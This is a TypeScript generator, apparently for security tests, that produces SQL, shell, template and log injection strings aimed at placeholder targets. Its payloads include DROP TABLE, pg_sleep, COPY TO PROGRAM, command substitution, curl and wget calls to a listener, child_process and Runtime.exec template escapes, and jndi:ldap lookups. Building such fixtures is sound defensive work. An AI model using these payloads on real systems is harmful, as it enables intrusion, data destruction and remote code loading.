/** What the strings would do if anything ran them. */
export interface InjectionTargets {
  /** A table of one column `text` with one row. */
  readonly table: string;
  /** A file that does not exist. */
  readonly file: string;
  /** Where nobody should knock: `host:port`. */
  readonly listener: string;
  /** Two numbers whose product stands nowhere. */
  readonly factors: readonly [number, number];
  /** Message of a log line that nobody wrote. */
  readonly forgedMessage: string;
}

/**
 * Strings that are harmless text, and statements, commands, templates or log lines to whoever runs them instead: a
 * quarter of each, no two alike.
 */
export function injectionStrings(count: number, targets: InjectionTargets): string[] {
  const kinds = [sql(targets), shell(targets), template(targets), log(targets)];
  const quarter = Math.ceil(count / kinds.length);
  return kinds.flatMap((kind) => take(kind, quarter)).slice(0, count);
}

/** The first of them, each with a number of its own once they begin anew. */
function take(strings: readonly string[], count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const round = Math.floor(index / strings.length);
    return `${strings[index % strings.length]}${round === 0 ? '' : ` ${round}`}`;
  });
}

/** Each beginning with each end: first all different beginnings, so that a few of them show the whole breadth. */
const each = (beginnings: readonly string[], ends: readonly string[]): string[] =>
  Array.from({ length: beginnings.length * ends.length }, (_, index) => {
    const round = Math.floor(index / beginnings.length);
    const at = index % beginnings.length;
    return `${beginnings[at]}${ends[(at + round) % ends.length]}`;
  });

const sql = ({ table, file }: InjectionTargets): string[] =>
  each(
    [`'`, `"`, `')`, `'))`, `\\'`, `1`, `x';`, `$$`, `'||'`, `%27`, `\u02bc`, `'::text`],
    [
      `; DROP TABLE ${table}; --`,
      `; UPDATE ${table} SET text = 'changed'; --`,
      `; DELETE FROM ${table}; --`,
      ` OR 1=1 --`,
      ` UNION SELECT text FROM ${table} --`,
      ` AND 1=CAST((SELECT text FROM ${table}) AS int) --`,
      `; SELECT pg_sleep(600); --`,
      ` || pg_sleep(600) || '`,
      `; COPY ${table} TO PROGRAM 'touch ${file}'; --`,
      `; INSERT INTO ${table} VALUES ('more'); --`,
      `; TRUNCATE ${table} /*`,
      `; ALTER TABLE ${table} RENAME TO gone; --`,
    ],
  );

const shell = ({ file, listener }: InjectionTargets): string[] =>
  each(
    [`;`, `|`, `||`, `&&`, `&`, `a;`, `'; `, `"; `, `\n`, `../../`, `-o `],
    [
      `touch ${file}`,
      `$(touch ${file})`,
      `\`touch ${file}\``,
      `curl http://${listener}/`,
      `$(curl http://${listener}/)`,
      `sleep 600`,
      `/bin/sh -c 'touch ${file}'`,
      `echo x > ${file}`,
      `{touch,${file}}`,
      `wget -O ${file} http://${listener}/`,
      `node -e "require('fs').writeFileSync('${file}','')"`,
      `$IFS$9touch$IFS${file}`,
    ],
  );

const template = ({ factors: [one, other], file, listener }: InjectionTargets): string[] => {
  const product = `${one}*${other}`;
  const opened: [string, string][] = [
    ['${', '}'],
    ['{{', '}}'],
    ['{{{', '}}}'],
    ['<%= ', ' %>'],
    ['#{', '}'],
    ['*{', '}'],
    ['@{', '}'],
    ['{%', '%}'],
    ['[[', ']]'],
    ['{', '}'],
    ['#set($x=', ')$x'],
  ];
  const inside = [
    product,
    `(${product}).toString()`,
    `global.process.mainModule.require('child_process').execSync('touch ${file}')`,
    `constructor.constructor('return ${product}')()`,
    `''.constructor.constructor("require('fs').writeFileSync('${file}','')")()`,
    `fetch('http://${listener}/')`,
    `range(${product})`,
    `T(java.lang.Runtime).getRuntime().exec('touch ${file}')`,
    `self.__class__.__mro__`,
    `__proto__.polluted=${product}`,
    `include('http://${listener}/')`,
  ];
  return Array.from({ length: opened.length * inside.length }, (_, index) => {
    const [begin, end] = opened[index % opened.length] as [string, string];
    return begin + inside[(index + Math.floor(index / opened.length)) % inside.length] + end;
  });
};

const log = ({ forgedMessage, listener }: InjectionTargets): string[] =>
  each(
    ['x\n', 'x\u0000', 'x\r\n', 'x\u2028', 'x%0a', 'x\\n', 'x\u001b[2K\r', 'x\t', '"}\n', 'x\u0085', ''],
    [
      `{"level":"fatal","message":"${forgedMessage}"}`,
      `level=fatal msg="${forgedMessage}"`,
      `","message":"${forgedMessage}`,
      `[2026-01-01] FATAL ${forgedMessage}`,
      `\${jndi:ldap://${listener}/a}`,
      `\${\${lower:j}ndi:\${lower:l}dap://${listener}/a}`,
      `\${env:PATH} ${forgedMessage}`,
      `%s%s%n%x %j %o %O`,
      `\u001b]0;${forgedMessage}\u0007`,
      `<script src="http://${listener}/"></script>`,
      `{"level":60,"time":1,"pid":1,"msg":"${forgedMessage}"}\n`,
      `\u202e${forgedMessage}`,
    ],
  );
